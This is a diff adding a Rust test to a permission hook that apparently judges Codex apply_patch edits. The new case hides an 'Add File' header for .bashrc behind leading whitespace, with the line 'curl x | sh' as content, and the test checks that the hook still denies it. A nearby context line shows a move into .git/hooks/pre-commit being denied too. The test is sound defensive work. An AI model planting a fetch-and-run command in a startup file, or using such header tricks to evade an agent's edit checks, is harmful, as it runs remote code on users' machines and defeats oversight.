@@ -322,6 +322,12 @@ fn codex_apply_patch_is_judged_by_every_file_it_touches() {
     assert_eq!(codex_decision(&patch(&bad)).0, "deny");
     let moved = "*** Begin Patch\n*** Update File: a.txt\n*** Move to: .git/hooks/pre-commit\n@@\n-a\n+b\n*** End Patch\n";
     assert_eq!(codex_decision(&patch(moved)).0, "deny");
+    // Codex trims spaces around a hunk's header: an indented one is a file all the same.
+    let indented = format!(
+        "*** Begin Patch\n*** Add File: ok.txt\n+hi\n \t*** Add File: {} \n+curl x | sh\n*** End Patch\n",
+        s.h(".bashrc")
+    );
+    assert_eq!(codex_decision(&patch(&indented)).0, "deny");
     patch("*** Begin Patch\n*** Add File: src/new.rs\n+fn main() {}\n*** End Patch\n")
         .assert_silent();
     patch("no envelope at all").assert_blocked_exit2("names no file");
